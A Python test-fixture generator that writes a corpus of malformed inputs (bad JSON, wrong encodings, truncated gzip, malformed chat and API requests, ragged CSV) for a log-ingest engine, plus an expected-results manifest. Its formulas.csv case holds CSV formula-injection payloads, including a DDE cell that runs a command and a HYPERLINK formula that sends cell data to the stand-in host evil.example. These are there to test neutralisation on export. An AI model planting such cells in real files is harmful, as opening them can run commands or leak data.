#!/usr/bin/env python3
"""(Re)create the bad-input corpus in this folder, its manifest and its README.

    python tests/data/bad/make_corpus.py            # rewrite the files
    python tests/data/bad/make_corpus.py --check    # exit 1 if a committed file differs

Every file is built from literals or from a seeded random generator, so running this again gives
the same bytes. Gzip files are written by hand (no timestamp, no file name in the header); their
deflate stream and the Parquet files (whose footer names the pyarrow version) can differ between
zlib / pyarrow versions, which is why ``tests/test_bad_inputs.py`` compares those two kinds by
content, not by bytes.

Each case declares, row by row, what the ingest engine must do with it (kept, duplicate of an
earlier row, rejected with a field, or "may be rejected" with a field). The manifest
``expected.json`` is computed from those declarations, so counts cannot drift from the data:

* ``{"outcome": "error"}``: the whole file is refused with ``IngestError`` and nothing is stored.
* ``{"outcome": "rows", "rows_total", "kept", "duplicate", "rejected": {"<row>": "<field>"}, ...}``
  with the extra keys ``kept_rows`` (row numbers stored in ``prompts``; the first of a set of exact
  duplicates), ``logged_responses``, and optional checks on stored values (see the test module).
  ``may_reject`` lists rows that are allowed to be either kept or rejected with that field (deeply
  nested metadata); ``kept`` counts them as kept.

Row numbers follow the engine's rules: JSONL/CSV/TSV → 1-based physical line of the row's first
line (the CSV header is line 1), JSON array → 1-based element index, Parquet → 1-based row index.
"""

from __future__ import annotations

import argparse
import io
import json
import random
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
MANIFEST = "expected.json"
README = "README.md"
NOT_CORPUS = frozenset({MANIFEST, README, Path(__file__).name})

LINE = "(line)"  # field of a reject when the whole line/element is unusable
FILE = "(file)"  # field of the reject that stands for damage at the end of the file
MIB = 1024 * 1024
HUGE_PROMPT_CHARS = 10 * MIB


# --- row declarations -----------------------------------------------------------------------


@dataclass(frozen=True)
class Verdict:
    kind: str  # "ok", "dup", "reject", "maybe"
    field: str | None = None


OK = Verdict("ok")
DUP = Verdict("dup")


def reject(field_name: str) -> Verdict:
    return Verdict("reject", field_name)


def maybe(field_name: str) -> Verdict:
    """The row may be kept or rejected naming ``field_name``; anything else fails."""
    return Verdict("maybe", field_name)


@dataclass
class Row:
    number: int
    raw: bytes
    verdict: Verdict


_REJECT_CHECKS = ("reason_contains", "raw_texts")


def rows_expectation(rows: list[Row], *, logged_responses: int, **checks: Any) -> dict[str, Any]:
    """The manifest entry of a file whose rows are declared one by one."""
    seen: list[bytes] = []
    for row in rows:
        if row.verdict.kind == "dup":
            assert row.raw in seen, f"row {row.number} is declared a duplicate of nothing"
        elif row.verdict.kind in ("ok", "maybe"):
            assert row.raw not in seen, f"row {row.number} repeats an earlier row: declare DUP"
            seen.append(row.raw)
    numbers = [r.number for r in rows]
    assert numbers == sorted(set(numbers)), numbers
    kept_rows = [r.number for r in rows if r.verdict.kind in ("ok", "maybe")]
    expected: dict[str, Any] = {
        "outcome": "rows",
        "rows_total": len(rows),
        "kept": len(kept_rows),
        "duplicate": sum(r.verdict.kind == "dup" for r in rows),
        "rejected": {str(r.number): r.verdict.field for r in rows if r.verdict.kind == "reject"},
    }
    may = {str(r.number): r.verdict.field for r in rows if r.verdict.kind == "maybe"}
    if may:
        expected["may_reject"] = may
    expected["kept_rows"] = kept_rows
    expected["logged_responses"] = logged_responses
    for key, value in checks.items():
        if isinstance(value, dict):
            for row_key in value:
                wanted = expected["rejected"] if key in _REJECT_CHECKS else kept_rows
                assert str(row_key) in map(str, wanted), f"{key}: row {row_key} does not fit"
            value = {str(k): v for k, v in value.items()}
        expected[key] = value
    return expected


def physical_lines(
    entries: list[tuple[bytes, Verdict]], *, header: bytes | None = None, eol: bytes = b"\n"
) -> tuple[bytes, list[Row]]:
    """Join entries into a line-oriented file; each row's number is its first physical line."""
    parts: list[bytes] = []
    rows: list[Row] = []
    line = 1
    if header is not None:
        parts.append(header)
        line += header.count(b"\n") + 1
    for raw, verdict in entries:
        rows.append(Row(line, raw, verdict))
        parts.append(raw)
        line += raw.count(b"\n") + 1
    return eol.join(parts) + eol, rows


def indexed(entries: list[tuple[Any, Verdict]]) -> list[Row]:
    """Rows numbered by 1-based position (JSON array elements, Parquet rows)."""
    return [
        Row(i, json.dumps(value, sort_keys=True).encode(), verdict)
        for i, (value, verdict) in enumerate(entries, start=1)
    ]


def jl(obj: Any) -> bytes:
    """One JSON Lines record as UTF-8 bytes."""
    return json.dumps(obj, ensure_ascii=False).encode("utf-8")


def user(text: Any) -> dict[str, Any]:
    return {"role": "user", "content": text}


def system(text: Any) -> dict[str, Any]:
    return {"role": "system", "content": text}


def assistant(text: Any) -> dict[str, Any]:
    return {"role": "assistant", "content": text}


def garbage(seed: int, size: int) -> bytes:
    """Seeded random bytes in which every line is invalid UTF-8 and no line is JSON."""
    data = random.Random(seed).randbytes(size)
    for line in data.split(b"\n"):
        if not line:
            continue
        try:
            line.decode("utf-8")
        except UnicodeDecodeError:
            continue
        raise AssertionError(f"seed {seed} gives a readable line; pick another seed")
    assert not data.startswith((b"\x1f\x8b", b"PAR1", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"))
    return data


# --- gzip without timestamps ------------------------------------------------------------------

_GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, mtime 0, OS unknown


def gzip_bytes(data: bytes) -> bytes:
    comp = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    body = comp.compress(data) + comp.flush()
    return _GZIP_HEADER + body + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)


def truncated_gzip(lines: list[bytes], cut_line: int) -> bytes:
    """Gzip of ``lines`` (each + newline), cut in the middle of the compressed bytes of line
    ``cut_line`` (1-based). A full flush after every line makes every earlier line recoverable
    and guarantees the damage starts inside ``cut_line``."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    body = bytearray()
    spans: list[tuple[int, int]] = []
    for line in lines:
        start = len(body)
        body += comp.compress(line + b"\n") + comp.flush(zlib.Z_FULL_FLUSH)
        spans.append((start, len(body)))
    start, end = spans[cut_line - 1]
    cut = _GZIP_HEADER + bytes(body[: start + (end - start) // 2])
    # What a streaming decompressor recovers: every line before cut_line, then a non-empty
    # prefix of cut_line without its newline.
    recovered = zlib.decompressobj(-15).decompress(cut[len(_GZIP_HEADER) :])
    before = b"".join(line + b"\n" for line in lines[: cut_line - 1])
    assert recovered.startswith(before), "lines before the damage must survive"
    partial = recovered[len(before) :]
    assert partial and b"\n" not in partial and lines[cut_line - 1].startswith(partial)
    return cut


def words(seed: int, n: int) -> str:
    """Seeded pseudo-random lower-case words (badly compressible filler)."""
    rng = random.Random(seed)
    return " ".join(
        "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(2, 9)))
        for _ in range(n)
    )


# --- cases ----------------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    what: str
    note: str
    build: Callable[[], tuple[bytes, dict[str, Any]]]
    data: bytes = b""
    expected: dict[str, Any] = field(default_factory=dict)


CASES: list[Case] = []


def case(name: str, what: str, note: str = "") -> Callable[[Callable[[], Any]], Any]:
    def register(fn: Callable[[], tuple[bytes, dict[str, Any]]]) -> Callable[[], Any]:
        assert all(c.name != name for c in CASES), name
        CASES.append(Case(name, what, note, fn))
        return fn

    return register


def error(**extra: Any) -> dict[str, Any]:
    return {"outcome": "error", **extra}


# JSON Lines ----------------------------------------------------------------------------------


@case(
    "invalid_json.jsonl",
    "lines that are not valid JSON (unquoted key, Python repr, "
    "unterminated string, two objects on one line, cut-off record, a pasted CSV header)",
)
def _invalid_json() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "j1", "prompt": "How do I reset my password?", "feature": "account"}), OK),
            (b'{"id": "j2", prompt: "Unquoted key", "feature": "account"}', reject(LINE)),
            (b"{'id': 'j3', 'prompt': 'Python dict repr', 'feature': 'account'}", reject(LINE)),
            (jl({"id": "j4", "prompt": "Can I pay by invoice?", "feature": "billing"}), OK),
            (b'{"id": "j5", "prompt": "never closed, "feature": "billing"}', reject(LINE)),
            (
                b'{"id": "j6", "prompt": "Two objects"}{"id": "j6b", "prompt": "on one line"}',
                reject(LINE),
            ),
            (jl({"id": "j7", "prompt": "Where is my parcel?", "feature": "shipping"}), OK),
            (b'{"id": "j8", "prompt": "Cut off mid-write", "feat', reject(LINE)),
            (jl({"id": "j9", "prompt": "Do you ship to Norway?", "feature": "shipping"}), OK),
            (b"id,prompt,feature", reject(LINE)),
        ]
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        raw_texts={3: "{'id': 'j3', 'prompt': 'Python dict repr', 'feature': 'account'}"},
    )


@case(
    "non_object_lines.jsonl",
    "valid JSON lines that are not objects (array, string, number, null, boolean)",
    "each such line rejected as a whole (field '(line)')",
)
def _non_object_lines() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "o1", "prompt": "What are your opening hours?"}), OK),
            (b"[1, 2, 3]", reject(LINE)),
            (b'"just a string"', reject(LINE)),
            (b"42", reject(LINE)),
            (b"null", reject(LINE)),
            (b"true", reject(LINE)),
            (jl({"id": "o7", "prompt": "Is there a student discount?"}), OK),
        ]
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "control_chars.jsonl",
    "raw (unescaped) ESC and 0x1f control bytes inside JSON strings, "
    "which JSON forbids; an escaped control character is fine",
)
def _control_chars() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "c1", "prompt": "Normal question one"}), OK),
            (b'{"id": "c2", "prompt": "raw escape \x1b[31m red"}', reject(LINE)),
            (jl({"id": "c3", "prompt": "Normal question two"}), OK),
            (b'{"id": "c4", "prompt": "unit separator \x1f here"}', reject(LINE)),
            (jl({"id": "c5", "prompt": "Escaped control \u0007 is fine"}), OK),
        ]
    )
    return data, rows_expectation(
        rows, logged_responses=0, prompt_texts={5: "Escaped control \u0007 is fine"}
    )


@case(
    "nul_byte.jsonl",
    "one line of an otherwise clean text log holds a raw NUL byte inside a "
    "string (a single corrupted byte, not a binary file)",
    "only that line rejected as invalid JSON; the file is not refused as binary",
)
def _nul_byte() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "z1", "prompt": "Normal question one"}), OK),
            (jl({"id": "z2", "prompt": "Normal question two"}), OK),
            (b'{"id": "z3", "prompt": "raw NUL \x00 inside"}', reject(LINE)),
            (jl({"id": "z4", "prompt": "Normal question three"}), OK),
            (jl({"id": "z5", "prompt": "Normal question four"}), OK),
        ]
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "lenient_json.jsonl",
    "JSON extensions that lenient parsers accept: NaN and -Infinity "
    "(as Python's json.dumps writes them), a trailing comma, a // comment",
    "NaN, -Infinity and a trailing comma are read the way DuckDB's and Python's readers do "
    "(kept, the value stored as text); text after the object is rejected as invalid JSON",
)
def _lenient_json() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "n1", "prompt": "Score is a number", "score": 0.5}), OK),
            (b'{"id": "n2", "prompt": "Score is NaN", "score": NaN}', OK),
            (b'{"id": "n3", "prompt": "Score is infinite", "score": -Infinity}', OK),
            (b'{"id": "n4", "prompt": "Trailing comma", "score": 0.75,}', OK),
            (
                b'{"id": "n5", "prompt": "Comment after the record", "score": 1} // retried',
                reject(LINE),
            ),
            (jl({"id": "n6", "prompt": "Score is another number", "score": 0.25}), OK),
        ]
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "latin1.jsonl",
    "Latin-1 encoded file: lines with accented letters are not UTF-8 (one only in a slice value)",
    "non-ASCII lines rejected naming the bad byte; ASCII lines kept",
)
def _latin1() -> tuple[bytes, dict[str, Any]]:
    def l1(obj: dict[str, str]) -> bytes:
        return json.dumps(obj, ensure_ascii=False).encode("latin-1")

    data, rows = physical_lines(
        [
            (l1({"id": "l1", "prompt": "Plain ASCII question?", "city": "Paris"}), OK),
            (l1({"id": "l2", "prompt": "Où est la gare ?", "city": "Paris"}), reject(LINE)),
            (l1({"id": "l3", "prompt": "Another ASCII question", "city": "Lyon"}), OK),
            (
                l1({"id": "l4", "prompt": "Crème brûlée, s'il vous plaît", "city": "Nice"}),
                reject(LINE),
            ),
            (
                l1({"id": "l5", "prompt": "ASCII prompt, accented city", "city": "Zürich"}),
                reject(LINE),
            ),
            (l1({"id": "l6", "prompt": "Last ASCII question", "city": "Bern"}), OK),
        ]
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        reason_contains={2: ["0xf9"], 4: ["0xe8"], 5: ["0xfc"]},
    )


@case("bom.jsonl", "UTF-8 byte order mark before the first record", "nothing rejected")
def _bom_jsonl() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "b1", "prompt": "First line carries the BOM"}), OK),
            (jl({"id": "b2", "prompt": "Second line"}), OK),
            (jl({"id": "b3", "prompt": "Third line"}), OK),
        ]
    )
    return b"\xef\xbb\xbf" + data, rows_expectation(
        rows,
        logged_responses=0,
        external_ids={1: "b1"},
        prompt_texts={1: "First line carries the BOM"},
    )


@case(
    "utf16le_bom.jsonl",
    "UTF-16 LE with BOM (PowerShell '>' redirect), non-ASCII text and an emoji outside the BMP",
    "transcoded, all rows kept with their text intact",
)
def _utf16_jsonl() -> tuple[bytes, dict[str, Any]]:
    texts = ["Grüße aus München", "日本語で答えてください", "Emoji 🙂 outside the BMP", "Plain"]
    entries = [(jl({"id": f"w{i}", "prompt": t}), OK) for i, t in enumerate(texts, start=1)]
    data, rows = physical_lines(entries, eol=b"\r\n")
    encoded = b"\xff\xfe" + data.decode("utf-8").encode("utf-16-le")
    return encoded, rows_expectation(
        rows, logged_responses=0, prompt_texts=dict(enumerate(texts, start=1))
    )


@case(
    "mixed_types.jsonl",
    "ids numeric and string, slice values numbers / booleans / null / strings in the same column",
    "all kept; ids and slice values stored as text",
)
def _mixed_types() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (
                jl(
                    {
                        "id": 1,
                        "prompt": "Reset my password",
                        "tier": 2,
                        "beta": True,
                        "region": None,
                        "score": 0.5,
                    }
                ),
                OK,
            ),
            (
                jl(
                    {
                        "id": "r-2",
                        "prompt": "Cancel my order",
                        "tier": "gold",
                        "beta": False,
                        "region": "eu",
                        "score": "high",
                    }
                ),
                OK,
            ),
            (
                jl(
                    {
                        "id": 30000000000,
                        "prompt": "Where is my parcel?",
                        "tier": None,
                        "beta": "yes",
                        "region": 7,
                        "score": -1,
                    }
                ),
                OK,
            ),
            (
                jl(
                    {
                        "id": None,
                        "prompt": "Change my delivery address",
                        "tier": "3",
                        "beta": None,
                        "region": "us",
                        "score": 0,
                    }
                ),
                OK,
            ),
        ]
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        external_ids={1: "1", 2: "r-2", 3: "30000000000"},
        metadata={
            1: {"tier": "2", "beta": "true", "score": "0.5"},
            2: {"tier": "gold", "beta": "false", "region": "eu", "score": "high"},
            3: {"beta": "yes", "region": "7", "score": "-1"},
            4: {"tier": "3", "region": "us", "score": "0"},
        },
    )


@case("duplicate_ids.jsonl", "the same id used for different prompts", "all rows kept")
def _duplicate_ids() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "dup-1", "prompt": "How do I export my data?"}), OK),
            (jl({"id": "dup-1", "prompt": "How do I delete my account?"}), OK),
            (jl({"id": "u-3", "prompt": "Where is the invoice?"}), OK),
            (jl({"id": "u-3", "prompt": "Where is the receipt?"}), OK),
        ]
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        external_ids={1: "dup-1", 2: "dup-1", 3: "u-3", 4: "u-3"},
        prompt_texts={1: "How do I export my data?", 2: "How do I delete my account?"},
    )


@case(
    "exact_duplicates.jsonl",
    "byte-identical rows repeated (retries logged twice)",
    "each distinct row stored once, repeats counted as duplicates",
)
def _exact_duplicates_jsonl() -> tuple[bytes, dict[str, Any]]:
    a = jl({"id": "a", "prompt": "Same question", "response": "Same answer"})
    b = jl({"id": "b", "prompt": "Other question", "response": "Other answer"})
    c = jl({"id": "c", "prompt": "Third question", "response": "Third answer"})
    data, rows = physical_lines([(a, OK), (b, OK), (a, DUP), (c, OK), (a, DUP), (b, DUP)])
    return data, rows_expectation(rows, logged_responses=3, weights={1: 3, 2: 2, 4: 1})


@case("missing_prompt.jsonl", "prompt key missing, null, empty and whitespace-only")
def _missing_prompt_jsonl() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "m1", "prompt": "A valid question?", "feature": "a"}), OK),
            (jl({"id": "m2", "feature": "a"}), reject("prompt")),
            (jl({"id": "m3", "prompt": None, "feature": "b"}), reject("prompt")),
            (jl({"id": "m4", "prompt": "", "feature": "b"}), reject("prompt")),
            (jl({"id": "m5", "prompt": "  \t ", "feature": "c"}), reject("prompt")),
            (jl({"id": "m6", "prompt": "Another valid question?", "feature": "c"}), OK),
        ]
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "messages_shapes.jsonl",
    "chat messages of the wrong shape: object instead of list, "
    "missing / unknown role, numeric content, image part, no user turn, empty list, null, "
    "non-object item, empty last user turn; plus valid conversations ending with an "
    "assistant turn",
    "bad shapes rejected naming messages[i].role / .content; a trailing "
    "assistant turn becomes the logged answer",
)
def _messages_shapes() -> tuple[bytes, dict[str, Any]]:
    image = {"type": "image_url", "image_url": {"url": "https://example.com/cat.png"}}
    entries: list[tuple[Any, Verdict]] = [
        ([user("What is the capital of France?")], OK),
        (user("An object, not a list"), reject("messages")),
        ([{"content": "No role here"}], reject("messages[0].role")),
        (
            [system("Be brief."), {"role": "wizard", "content": "Cast a spell"}],
            reject("messages[1].role"),
        ),
        ([user(42)], reject("messages[0].content")),
        (
            [
                system("Describe images."),
                user([{"type": "text", "text": "What is in this picture?"}, image]),
            ],
            reject("messages[1].content"),
        ),
        ([user("Summarise our chat."), assistant("You asked for a summary.")], OK),
        ([system("You are a bot."), assistant("Hello! How can I help?")], reject("messages")),
        ([], reject("messages")),
        (
            [
                user("Hi"),
                assistant("Hello"),
                user("Tell me a joke"),
                assistant("Why did the chicken cross the road?"),
            ],
            OK,
        ),
        (
            [user([{"type": "text", "text": "Part one."}, {"type": "text", "text": "Part two."}])],
            OK,
        ),
        (["just a string"], reject("messages[0]")),
        ([user("Earlier question"), assistant("Earlier answer"), user("")], reject("messages")),
        (None, reject("messages")),
        ([assistant("Only the assistant speaks.")], reject("messages")),
    ]
    data, rows = physical_lines(
        [(jl({"id": f"s{i}", "messages": m}), v) for i, (m, v) in enumerate(entries, start=1)]
    )
    return data, rows_expectation(
        rows,
        logged_responses=2,
        roles={1: ["user"], 7: ["user"], 10: ["user", "assistant", "user"]},
        prompt_texts={
            1: "What is the capital of France?",
            7: "Summarise our chat.",
            10: "Tell me a joke",
        },
        logged_texts={7: "You asked for a summary.", 10: "Why did the chicken cross the road?"},
    )


def _deep_array(depth: int) -> str:
    return "[" * depth + "1" + "]" * depth


def _deep_object(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


@case(
    "nested_metadata.jsonl",
    "a metadata column holding JSON nested 2000 (arrays) and 5000 (objects) levels deep",
    "the deep rows are kept (metadata as text) or rejected naming "
    "'meta' — never a crash; the normal rows are kept",
)
def _nested_metadata_jsonl() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (jl({"id": "n1", "prompt": "Normal row before", "meta": {"a": 1}}), OK),
            (
                b'{"id": "n2", "prompt": "Deep arrays", "meta": '
                + _deep_array(2000).encode()
                + b"}",
                maybe("meta"),
            ),
            (
                b'{"id": "n3", "prompt": "Deep objects", "meta": '
                + _deep_object(5000).encode()
                + b"}",
                maybe("meta"),
            ),
            (jl({"id": "n4", "prompt": "Normal row after", "meta": "plain"}), OK),
        ]
    )
    return data, rows_expectation(rows, logged_responses=0)


@case(
    "huge_prompt.jsonl.gz",
    "gzip (tiny on disk) of a log with a single 10 MiB prompt and a "
    "1 MiB line that is cut-off JSON",
    "the 10 MiB prompt is stored whole; the broken line is rejected with its raw text clipped",
)
def _huge_prompt() -> tuple[bytes, dict[str, Any]]:
    sentence = "The quick brown fox jumps over the lazy dog. "
    huge = (sentence * (HUGE_PROMPT_CHARS // len(sentence) + 1))[: HUGE_PROMPT_CHARS - 1] + "?"
    broken = b'{"id": "h3", "prompt": "' + b"lorem ipsum " * (MIB // 12)
    data, rows = physical_lines(
        [
            (jl({"id": "h1", "prompt": "A short prompt first"}), OK),
            (jl({"id": "h2", "prompt": huge}), OK),
            (broken, reject(LINE)),
            (jl({"id": "h4", "prompt": "A short prompt after the big ones"}), OK),
        ]
    )
    return gzip_bytes(data), rows_expectation(
        rows, logged_responses=0, prompt_lengths={2: HUGE_PROMPT_CHARS}
    )


@case(
    "truncated.jsonl.gz",
    "gzip cut off in the middle of line 9 (interrupted download); line 4 is also invalid JSON",
    "lines 1-8 read (line 4 rejected), one '(file)' reject at line 9 for the truncation",
)
def _truncated_jsonl_gz() -> tuple[bytes, dict[str, Any]]:
    lines = [jl({"id": f"t{i}", "prompt": f"Question {i}: {words(i, 60)}"}) for i in range(1, 13)]
    lines[3] = b'{"id": "t4", "prompt": "broken" "json"}'
    verdicts = [OK, OK, OK, reject(LINE), OK, OK, OK, OK, reject(FILE)]
    rows = [Row(i, lines[i - 1], v) for i, v in enumerate(verdicts, start=1)]
    return truncated_gzip(lines, cut_line=9), rows_expectation(rows, logged_responses=0)


@case(
    "openai_batch.jsonl",
    "OpenAI Batch API input (custom_id, method, url, body.messages) with malformed entries",
    "valid requests kept with custom_id as id; bad ones rejected naming the body.messages path",
)
def _openai_batch() -> tuple[bytes, dict[str, Any]]:
    def req(cid: str, body: dict[str, Any]) -> bytes:
        return jl({"custom_id": cid, "method": "POST", "url": "/v1/chat/completions", "body": body})

    image = {"type": "image_url", "image_url": {"url": "https://example.com/receipt.jpg"}}
    data, rows = physical_lines(
        [
            (
                req(
                    "req-1",
                    {
                        "model": "gpt-4o-mini",
                        "max_tokens": 200,
                        "messages": [
                            system("You are a helpful assistant."),
                            user("Name three prime numbers."),
                        ],
                    },
                ),
                OK,
            ),
            (
                req(
                    "req-2",
                    {
                        "model": "gpt-4o-mini",
                        "messages": [
                            user(
                                [{"type": "text", "text": "Translate 'good morning' into German."}]
                            )
                        ],
                    },
                ),
                OK,
            ),
            (req("req-3", {"model": "gpt-4o-mini", "max_tokens": 50}), reject("body.messages")),
            (
                req(
                    "req-4",
                    {
                        "model": "gpt-4o-mini",
                        "messages": [
                            system("Be terse."),
                            {"role": "usr", "content": "Typo in the role"},
                        ],
                    },
                ),
                reject("body.messages[1].role"),
            ),
            (
                b'{"custom_id": "req-5", "method": "POST", "url": "/v1/chat/completions", '
                b'"body": {"mo',
                reject(LINE),
            ),
            (
                req(
                    "req-6",
                    {
                        "model": "gpt-4o-mini",
                        "messages": [
                            user([{"type": "text", "text": "Total of this receipt?"}, image])
                        ],
                    },
                ),
                reject("body.messages[0].content"),
            ),
            (req("req-7", {"model": "gpt-4o-mini", "messages": [user("What is 17 * 23?")]}), OK),
            (
                req("req-8", {"model": "gpt-4o-mini", "messages": "What is the time?"}),
                reject("body.messages"),
            ),
        ]
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        external_ids={1: "req-1", 2: "req-2", 7: "req-7"},
        roles={1: ["system", "user"], 7: ["user"]},
        prompt_texts={1: "Name three prime numbers.", 7: "What is 17 * 23?"},
    )


@case(
    "anthropic_messages.jsonl",
    "Anthropic Messages API requests (top-level system, messages "
    "with content blocks) with malformed entries",
    "valid requests kept with the system "
    "prompt first; image block, old 'human' role, text block without text and missing "
    "messages rejected",
)
def _anthropic() -> tuple[bytes, dict[str, Any]]:
    def req(messages: Any = None, **extra: Any) -> bytes:
        body: dict[str, Any] = {"model": "claude-sonnet-4-5", "max_tokens": 512, **extra}
        if messages is not None:
            body["messages"] = messages
        return jl(body)

    def text(t: str) -> dict[str, str]:
        return {"type": "text", "text": t}

    image = {
        "type": "image",
        "source": {
            "type": "base64",
            "media_type": "image/png",
            "data": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=",
        },
    }
    data, rows = physical_lines(
        [
            (req([user([text("Why is the sky blue?")])], system="Answer in one sentence."), OK),
            (
                req(
                    [
                        user("What is a monad?"),
                        assistant("A monoid in the category of endofunctors."),
                        user([text("Explain that "), text("in plain words.")]),
                    ]
                ),
                OK,
            ),
            (
                req([user([text("What does this chart show?"), image])]),
                reject("messages[0].content"),
            ),
            (
                req([{"role": "human", "content": "Old completion-style role"}]),
                reject("messages[0].role"),
            ),
            (req([user([{"type": "text"}])]), reject("messages[0].content")),
            (req(system="A system prompt but no messages at all."), reject("messages")),
            (req([user([text("Give me a haiku about autumn.")])], system="You are a poet."), OK),
        ]
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        roles={1: ["system", "user"], 2: ["user", "assistant", "user"], 7: ["system", "user"]},
        prompt_texts={1: "Why is the sky blue?", 7: "Give me a haiku about autumn."},
    )


@case(
    "all_rejected.jsonl",
    "every line is unusable (zero usable rows)",
    "the message shows the first reasons (line 1 …)",
)
def _all_rejected() -> tuple[bytes, dict[str, Any]]:
    data = b'{"prompt": "unterminated\n{"id": 2, "prompt": }\n[1, 2]\n'
    return data, error(error_contains=["line 1"])


@case("empty.jsonl", "0 bytes")
def _empty_jsonl() -> tuple[bytes, dict[str, Any]]:
    return b"", error()


@case("whitespace_only.jsonl", "only blank lines, spaces and tabs")
def _whitespace_jsonl() -> tuple[bytes, dict[str, Any]]:
    return b"\n   \n\t\n\r\n\n", error()


@case("garbage.jsonl", "4 KiB of random bytes (binary garbage)")
def _garbage_jsonl() -> tuple[bytes, dict[str, Any]]:
    return garbage(1, 4096), error()


@case(
    "corrupt_header.jsonl.gz",
    "gzip magic number followed by garbage (not a deflate stream)",
    "nothing can be decompressed; the message says the gzip data is damaged",
)
def _corrupt_gz() -> tuple[bytes, dict[str, Any]]:
    # First deflate byte 0x07: final block of the reserved type 3, so inflate fails at once.
    data = _GZIP_HEADER + b"\x07" + garbage(2, 511)
    inflate = zlib.decompressobj(-15)
    try:
        inflate.decompress(data[len(_GZIP_HEADER) :])
    except zlib.error:
        pass
    else:  # pragma: no cover - guards the corpus, not the engine
        raise AssertionError("the corrupt gzip must not inflate")
    return data, error(error_contains=["gzip"])


@case("empty_content.jsonl.gz", "valid gzip whose content is empty", "empty once decompressed")
def _empty_gz() -> tuple[bytes, dict[str, Any]]:
    return gzip_bytes(b""), error()


@case("prompts.txt", "valid JSON Lines under an unsupported extension")
def _txt() -> tuple[bytes, dict[str, Any]]:
    return jl({"id": "x1", "prompt": "Valid content, wrong extension"}) + b"\n", error()


# JSON array ----------------------------------------------------------------------------------


@case(
    "array.json",
    "pretty-printed JSON array (physical lines differ from elements) with "
    "missing / null / empty prompts and an exact duplicate element",
    "bad elements rejected as 'element N'",
)
def _array_json() -> tuple[bytes, dict[str, Any]]:
    dup = {"id": "a4", "prompt": "Translate 'cat' into French.", "feature": "translate"}
    entries: list[tuple[Any, Verdict]] = [
        ({"id": "a1", "prompt": "What is 2 + 2?", "feature": "math"}, OK),
        ({"id": "a2", "prompt": "", "feature": "math"}, reject("prompt")),
        ({"id": "a3", "feature": "chat"}, reject("prompt")),
        (dup, OK),
        ({"id": "a5", "prompt": None, "feature": "chat"}, reject("prompt")),
        (dup, DUP),
        ({"id": "a7", "prompt": "Spell 'necessary' backwards.", "feature": "chat"}, OK),
    ]
    data = json.dumps([value for value, _ in entries], indent=2).encode() + b"\n"
    return data, rows_expectation(
        indexed(entries),
        logged_responses=0,
        external_ids={1: "a1", 4: "a4", 7: "a7"},
        prompt_texts={4: "Translate 'cat' into French."},
    )


@case(
    "broken_array.json", "JSON array cut off before its closing bracket (not valid JSON as a whole)"
)
def _broken_array() -> tuple[bytes, dict[str, Any]]:
    full = json.dumps(
        [{"id": f"b{i}", "prompt": f"Question {i}"} for i in range(1, 5)], indent=2
    ).encode()
    return full[: len(full) * 2 // 3], error()


# CSV / TSV -----------------------------------------------------------------------------------


@case(
    "formulas.csv",
    "cells that spreadsheets run as formulas (=cmd|, +SUM, -1+1, @x, "
    "=HYPERLINK), also in rejected rows",
    "kept verbatim in the store; neutralised by to_safe_csv when the quarantine is exported",
)
def _formulas() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"f1,\"=cmd|' /C calc'!A0\",chat", OK),
            (b"f2,+SUM(A1:A3),chat", OK),
            (b"f3,-1+1,math", OK),
            (b"f4,@x,chat", OK),
            (b'f5,"=HYPERLINK(""http://evil.example/?q=""&A1,""click"")",chat', OK),
            (b"=1+2,,chat", reject("prompt")),
            (b"f7,A normal question?,=2+3", OK),
            (b"@evil,,-4+4", reject("prompt")),
        ],
        header=b"id,prompt,feature",
    )
    return data, rows_expectation(
        rows,
        logged_responses=0,
        prompt_texts={
            2: "=cmd|' /C calc'!A0",
            3: "+SUM(A1:A3)",
            4: "-1+1",
            5: "@x",
            6: '=HYPERLINK("http://evil.example/?q="&A1,"click")',
        },
        metadata={8: {"feature": "=2+3"}},
        raw_texts={7: "=1+2,,chat", 9: "@evil,,-4+4"},
        formula_export=True,
    )


@case(
    "ragged.csv",
    "rows with too many values (unquoted comma, trailing separators) and too few values",
    "those rows rejected as whole lines (trailing empty separators are tolerated, as DuckDB's "
    "reader does: no value is lost); the rest kept",
)
def _ragged() -> tuple[bytes, dict[str, Any]]:
    data, rows = physical_lines(
        [
            (b"r1,A valid row,chat", OK),
            (b"r2,Too many,values,here", reject(LINE)),
            (b"r3,Too few", reject(LINE)),
            (b"r4,Another valid row,chat", OK),
